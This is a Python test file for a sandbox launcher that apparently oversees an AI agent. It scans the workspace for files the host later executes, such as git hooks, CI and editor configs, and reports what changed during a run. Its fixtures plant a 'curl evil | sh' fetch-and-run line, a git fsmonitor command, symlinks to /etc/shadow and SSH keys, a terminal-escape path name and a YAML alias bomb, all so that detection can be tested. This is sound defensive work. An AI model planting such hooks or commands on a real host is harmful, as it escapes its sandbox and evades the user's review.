"""The inventory of host-executed surfaces, the workspace scan and the before/after comparison."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from launcher.host import gitscan, scan
from launcher.policy.surfaces import BY_NAME, INVENTORY, PROTECTED, compare

ROOT = Path(__file__).resolve().parent.parent


def test_the_inventory_is_one_list_of_names_each_with_a_family_and_the_docs_tables_are_generated_from_it():
    from launcher.policy.surfaces import FAMILIES, doc_table

    names = [s.name for s in INVENTORY]
    assert len(names) == len(set(names)) and all(n and not n.startswith("/") for n in names)
    assert all(s.tools and s.why and s.family in FAMILIES for s in INVENTORY)
    assert all(not s.protect for s in INVENTORY if "*" in s.name or "/" in s.name)   # a mount needs one fixed name
    page = ROOT / "docs" / "security.md"   # "What the agent leaves behind"
    text = page.read_text()
    start, end = text.index("<!-- inventory:start -->\n") + len("<!-- inventory:start -->\n"), text.index("<!-- inventory:end -->")
    if os.environ.get("UPDATE_GOLDEN") and text[start:end] != doc_table():
        page.write_text(text[:start] + doc_table() + text[end:])
        pytest.fail("rewrote docs/security.md's inventory: review the diff, then run again without UPDATE_GOLDEN")
    assert text[start:end] == doc_table(), "UPDATE_GOLDEN=1 pytest tests/test_surfaces.py rewrites the tables"


def test_compare_reports_new_changed_and_removed_surfaces_and_new_links_out():
    before = {".envrc": "file:1", "a/.gitignore": "file:1", "old": "link-out:/etc", "gone/.vscode": "dir:1"}
    after = {".envrc": "file:2", "a/.gitignore": "file:2", "b/.gitignore": "file:3", "old": "link-out:/etc",
             "new": "link-out:/home/u/.ssh/id_rsa", "src/.git": "dir:9"}
    got = {(c.path, c.what) for c in compare(before, after)}
    assert got == {(".envrc", "changed"), ("a/.gitignore", "changed"), ("b/.gitignore", "new"), ("new", "link-out"),
                   ("src/.git", "new"), ("gone/.vscode", "removed")}   # a changed .gitignore can hide a file from review


def test_snapshot_finds_surfaces_at_any_depth_and_ignores_placeholders(tmp_path):
    (tmp_path / ".npmrc").mkdir()                      # an empty protected name at the root: a mount point
    (tmp_path / "src" / ".git").mkdir(parents=True)
    (tmp_path / "src" / ".git" / "config").write_text("[core]\n")
    (tmp_path / "deep" / "er").mkdir(parents=True)
    (tmp_path / "deep" / "er" / ".envrc").write_text("x\n")
    (tmp_path / "key").symlink_to("/etc/passwd")
    (tmp_path / "inside").symlink_to(tmp_path / "src")
    snap = scan.snapshot(str(tmp_path))
    assert set(snap) == {"src/.git", "deep/er/.envrc", "key"}
    assert snap["key"] == "link-out:/etc/passwd"


def test_a_git_fingerprint_covers_config_and_hooks_but_not_objects(tmp_path):
    git = tmp_path / ".git"
    (git / "objects").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    first = scan.snapshot(str(tmp_path))[".git"]
    (git / "objects" / "ab").write_text("blob")
    assert scan.snapshot(str(tmp_path))[".git"] == first
    (git / "config").write_text('[core]\n\tfsmonitor = "touch /tmp/x"\n')
    assert scan.snapshot(str(tmp_path))[".git"] != first


def test_git_dirs_follow_a_worktree_gitfile_out_and_a_submodule_gitfile_in(tmp_path):
    git = ["git", "-c", "user.name=u", "-c", "user.email=u@example.invalid"]
    main = tmp_path / "main"
    subprocess.run(git + ["init", "-q", str(main)], check=True)
    subprocess.run(git + ["-C", str(main), "commit", "-q", "--allow-empty", "-m", "x"], check=True)
    subprocess.run(git + ["-C", str(main), "worktree", "add", "-q", str(tmp_path / "wt")], check=True)
    wt = str(tmp_path / "wt")
    found = gitscan.discover(wt, scan.snapshot(wt), writable_git=False, owner=None)
    assert found.protect == () and found.outside[:2] == (str(main / ".git" / "worktrees" / "wt"), str(main / ".git"))
    assert any("not reachable from the sandbox" in n for n in found.notes)
    (tmp_path / "wt" / "meta").mkdir()
    (tmp_path / "wt" / ".git").unlink()
    (tmp_path / "wt" / ".git").write_text("gitdir: meta\n")
    (tmp_path / "wt" / "lib" / ".git").mkdir(parents=True)
    assert gitscan.discover(wt, scan.snapshot(wt), writable_git=False, owner=None).protect == ("lib/.git", "meta")


def test_every_protected_name_is_in_the_inventory():
    assert set(PROTECTED) <= set(BY_NAME) and ".git" not in PROTECTED   # .git follows workspace.git


def test_empty_mount_points_of_other_sandboxes_are_not_changes(tmp_path):
    before = scan.snapshot(str(tmp_path))
    (tmp_path / ".git").mkdir()           # another sandbox's placeholder for a missing .git
    (tmp_path / ".github").mkdir()
    assert scan.snapshot(str(tmp_path)) == before
    (tmp_path / ".git" / "config").write_text("[core]\n")
    (tmp_path / ".git" / "info").mkdir()   # empty: nothing in it runs
    first = scan.snapshot(str(tmp_path))
    (tmp_path / ".git" / "info").rmdir()
    assert scan.snapshot(str(tmp_path)) == first


def test_the_scan_never_blocks_on_a_fifo_nor_follows_a_swapped_symlink(tmp_path):
    """A downloaded repository may hold a gitfile whose target's commondir is a FIFO; another
    sandbox's agent may swap a surface for one. Opening either by path would hang the launcher."""
    (tmp_path / "meta").mkdir()
    os.mkfifo(tmp_path / "meta" / "commondir")
    (tmp_path / ".git").write_text("gitdir: meta\n")
    os.mkfifo(tmp_path / ".envrc")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / ".npmrc").symlink_to("/etc/shadow")
    snap = scan.snapshot(str(tmp_path))
    found = gitscan.discover(str(tmp_path), snap, writable_git=False, owner=None)
    assert "meta" in found.protect and any("meta/commondir is neither" in r for r in found.refusals)
    assert snap[".envrc"].startswith("other:") and snap["sub/.npmrc"] == "link:/etc/shadow"
    assert scan._open_regular(str(tmp_path / ".envrc")) is None
    assert scan._open_regular(str(tmp_path / "sub" / ".npmrc")) is None


def test_a_path_the_agent_chose_never_reaches_the_terminal_raw():
    """A directory named with a terminal escape or a line break could rewrite the user's screen
    or forge a line of the report."""
    from launcher.policy.surfaces import render

    lines = render(compare({}, {"a\x1b]0;owned\x07\nnew b/.git": "dir:1"}))
    assert len(lines) == 2 and "\x1b" not in lines[1] and "\n" not in lines[1]
    assert lines[1].startswith("  new a\\u001b]0;owned\\u0007\\u000anew b/.git: git")


# Issue 40 item 3: each family by its rule, planted at several depths, in other cases, as a file or a
# directory; the reported path is the surface (a file planted inside a surface directory is that directory's change).
FAMILY_PLANTS = {
    ".gitea/workflows/x.yml": ".gitea", "deep/a/.forgejo/workflows/ci.yml": "deep/a/.forgejo",
    ".TRAVIS.yml": ".TRAVIS.yml", "sub/bitbucket-pipelines.yml": "sub/bitbucket-pipelines.yml",
    ".woodpecker/build.yaml": ".woodpecker", "azure-pipelines.yml": "azure-pipelines.yml", ".buildkite/pipeline.yml":
    ".buildkite", "appveyor.yml": "appveyor.yml", ".drone.yml": ".drone.yml", "docs/CODEOWNERS": "docs/CODEOWNERS",
    "CODEOWNERS": "CODEOWNERS", "proj.code-workspace": "proj.code-workspace", "a/B.Code-Workspace": "a/B.Code-Workspace",
    ".zed/settings.json": ".zed", "x/.helix/languages.toml": "x/.helix", ".nvim.lua": ".nvim.lua", ".exrc": ".exrc",
    "lisp/.dir-locals.el": "lisp/.dir-locals.el", ".hg/hgrc": ".hg", "lib/.svn/entries": "lib/.svn",
    "_darcs/prefs/defaults": "_darcs", ".jj/repo/config.toml": ".jj", ".windsurf/rules/x.md": ".windsurf",
    ".continue/config.yaml": ".continue", ".kiro/hooks/h.json": ".kiro", "CLAUDE.local.md": "CLAUDE.local.md",
    "mise.local.toml": "mise.local.toml", "svc/.mise.dev.toml": "svc/.mise.dev.toml",
    "rust-toolchain.toml": "rust-toolchain.toml", ".cargo/config.toml": ".cargo",
    "gradle/wrapper/gradle-wrapper.properties": "gradle/wrapper/gradle-wrapper.properties", "mvnw": "mvnw",
    ".mvn/extensions.xml": ".mvn", ".bazelrc": ".bazelrc", "tools/bazel": "tools/bazel", "m/tools/BAZEL": "m/tools/BAZEL",
    ".sdkmanrc": ".sdkmanrc", ".python-version": ".python-version",
}


@pytest.mark.parametrize("planted", sorted(FAMILY_PLANTS))
def test_each_family_is_reported_at_any_depth_and_case(tmp_path, planted):
    (tmp_path / "src").mkdir()
    before = scan.snapshot(str(tmp_path))
    (tmp_path / planted).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / planted).write_text("planted\n")
    assert [(c.path, c.what) for c in compare(before, scan.snapshot(str(tmp_path)))] == [(FAMILY_PLANTS[planted], "new")]


def test_nothing_else_is_reported(tmp_path):
    """The rules match names, not everything: ordinary files, `tools/other`, `bazel` elsewhere."""
    before = scan.snapshot(str(tmp_path))
    for rel in ("src/main.py", "tools/other", "bazel", "ci/build.sh", "workspace.code", "docs/readme.md"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x\n")
    assert compare(before, scan.snapshot(str(tmp_path))) == ()


@pytest.mark.parametrize("ignore", [".gitignore", "sub/.gitignore", ".gitattributes", "a/b/.GITATTRIBUTES"])
def test_a_changed_or_removed_tracked_ignore_file_is_reported(tmp_path, ignore):
    (tmp_path / ignore).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / ignore).write_text("*.log\n")
    before = scan.snapshot(str(tmp_path))
    (tmp_path / ignore).write_text("*.log\nsecret-change.py\n")
    assert [(c.path, c.what) for c in compare(before, scan.snapshot(str(tmp_path)))] == [(ignore, "changed")]
    (tmp_path / ignore).unlink()
    assert [(c.path, c.what) for c in compare(before, scan.snapshot(str(tmp_path)))] == [(ignore, "removed")]


INCLUDES = {   # config path -> (its text, the files it includes or runs)
    "gitlab string": (".gitlab-ci.yml", "include: /ci/reuse.yml\n", ["ci/reuse.yml"]),
    "gitlab list": (".gitlab-ci.yml", "include:\n  - ci/jobs.yml\n  - local: /ci/more.yml\n  - remote: https://x/y.yml\n",
                    ["ci/jobs.yml", "ci/more.yml", "scripts/test.sh"]),   # and what more.yml runs
    "gitlab dict and glob": (".gitlab-ci.yml", "include: {local: 'ci/*.yml'}\n",
                             ["ci/jobs.yml", "ci/more.yml", "ci/reuse.yml", "scripts/test.sh"]),
    "gitlab script": (".gitlab-ci.yml", "test:\n  script:\n    - ./scripts/test.sh --all\n    - bash scripts/lint.sh\n"
                      "    - pytest tests/\n", ["scripts/lint.sh", "scripts/test.sh"]),
    "gitlab transitive": (".gitlab-ci.yml", "include: ci/jobs.yml\n", ["ci/jobs.yml", "ci/more.yml", "scripts/test.sh"]),
    "gitlab include of an include anywhere": (".gitlab-ci.yml", "include: /templates/deep/base.yml\n",
                                              ["scripts/test.sh", "templates/deep/base.yml", "templates/deep/more.yml"]),
    "a nested project's own root": ("pkg/.gitlab-ci.yml", "include: /ci/own.yml\nj: {script: [./run.sh]}\n",
                                     ["pkg/ci/own.yml", "pkg/run.sh"]),
    "a nested project's local action": ("pkg/.github/workflows/w.yml", "jobs: {a: {steps: [{uses: ./act}]}}\n",
                                        ["pkg/act"]),
    "github local action": (".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - uses: ./tools/act\n"
                            "      - run: ./scripts/test.sh\n", ["scripts/lint.sh", "scripts/test.sh", "tools/act"]),
    "gitea reusable workflow": (".gitea/workflows/ci.yml", "jobs:\n  a:\n    uses: ./ci/reuse.yml\n", ["ci/reuse.yml"]),
    "forgejo action in .github": (".forgejo/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - uses: ./.github/actions/x\n",
                                  ["scripts/test.sh"]),
    "pre-commit local hook": (".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: x\n"
                              "        entry: scripts/lint.sh --fix\n", ["scripts/lint.sh"]),
    "lefthook": ("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      run: sh ./scripts/lint.sh {staged_files}\n",
                 ["scripts/lint.sh"]),
    "dev container": (".devcontainer/devcontainer.json", '{"initializeCommand": "./scripts/test.sh"}', ["scripts/test.sh"]),
}


def _include_tree(root):
    files = {"ci/jobs.yml": "include:\n  - local: /ci/more.yml\n", "ci/more.yml": "x:\n  script: [./scripts/test.sh]\n",
             "ci/reuse.yml": "on: workflow_call\n", "scripts/test.sh": "true\n", "scripts/lint.sh": "true\n",
             "tools/act/action.yml": "runs:\n  using: composite\n  steps:\n    - run: scripts/lint.sh\n",
             ".github/actions/x/action.yml": "runs:\n  steps:\n    - run: bash ./scripts/test.sh\n",
             "templates/deep/base.yml": "include: [more.yml]\n",   # relative to itself
             "pkg/ci/own.yml": "x: 1\n", "pkg/run.sh": "true\n", "pkg/act/action.yml": "runs: {using: node20}\n",
             "templates/deep/more.yml": "j:\n  script: ['VAR=1 ./scripts/test.sh']\n"}
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)


@pytest.mark.parametrize("case", sorted(INCLUDES))
def test_what_a_surface_includes_or_runs_is_fingerprinted_and_a_change_reported(tmp_path, case):
    config, text, included = INCLUDES[case]
    _include_tree(tmp_path)
    (tmp_path / config).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / config).write_text(text)
    before = scan.snapshot(str(tmp_path))
    assert sorted(p for p, f in before.items() if f.startswith("include:")) == included
    for rel in included:   # each change reported, as an include, whatever the config says afterwards
        path = tmp_path / rel
        if path.is_dir():
            (path / "action.yml").write_text("runs: {using: node20, main: evil.js}\n")
        else:
            path.write_text("curl evil | sh\n")
    from launcher.host import baseline
    changed = baseline.changes(str(tmp_path), before)
    assert sorted((c.path, c.surface) for c in changed) == [(rel, "include") for rel in included]


def test_includes_never_leave_the_workspace_nor_follow_links_and_an_alias_bomb_is_cheap(tmp_path):
    import time

    outside = tmp_path / "outside.yml"
    outside.write_text("x\n")
    ws = tmp_path / "ws"
    (ws / "ci").mkdir(parents=True)
    (ws / "ci" / "link.yml").symlink_to(outside)
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(20))
    (ws / ".gitlab-ci.yml").write_text("include: [../outside.yml, /ci/link.yml, ci/../../outside.yml]\n" + bomb)
    started = time.monotonic()
    snap = scan.snapshot(str(ws))
    assert time.monotonic() - started < 5
    assert not [p for p, f in snap.items() if f.startswith("include:")]


def test_the_include_graph_is_bounded_on_a_tree_of_vendored_ci_configs(tmp_path, monkeypatch):
    from launcher.host import includes

    monkeypatch.setattr(includes, "MAX_READ", 20)
    for n in range(60):   # each a package with its own workflow that runs a script of its own
        (tmp_path / "vendor" / f"p{n}" / ".github" / "workflows").mkdir(parents=True)
        (tmp_path / "vendor" / f"p{n}" / ".github" / "workflows" / "ci.yml").write_text(f"jobs: {{a: {{steps: [{{run: ./vendor/p{n}/x.sh}}]}}}}\n")
        (tmp_path / "vendor" / f"p{n}" / "x.sh").write_text("true\n")
    found = [p for p, f in scan.snapshot(str(tmp_path)).items() if f.startswith("include:")]
    assert 0 < len(found) <= 20
